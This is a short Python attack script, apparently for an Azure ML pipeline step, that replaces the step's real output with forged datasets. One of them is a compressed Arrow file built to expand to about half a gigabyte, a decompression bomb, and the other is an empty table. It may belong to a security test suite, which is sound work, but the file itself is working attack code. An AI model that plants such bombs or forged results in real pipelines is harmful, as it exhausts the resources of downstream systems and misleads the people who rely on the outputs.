"""Swaps a result for a packed table that would be half a gigabyte when it is unpacked."""

import mmap

import pyarrow
from attack import empty_table, publish_forged


def bomb(path):
    try:
        options = pyarrow.ipc.IpcWriteOptions(compression="zstd")
        column = pyarrow.Array.from_buffers(
            pyarrow.int64(),
            1 << 26,
            [None, pyarrow.py_buffer(mmap.mmap(-1, 1 << 29, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))],
        )
        batch = pyarrow.RecordBatch.from_arrays([column], ["x"])
        writer = pyarrow.ipc.RecordBatchFileWriter(path, batch.schema, options=options)
        writer.write_batch(batch)
        writer.close()
    except (AttributeError, TypeError):  # this pyarrow is too old to pack: then it is no table at all
        with open(path, "wb") as stream:
            stream.write(b"ARROW1" + bytes(100))


def azureml_main(dataframe1=None, dataframe2=None):
    publish_forged(result_dataset=bomb, result_dataset2=empty_table)
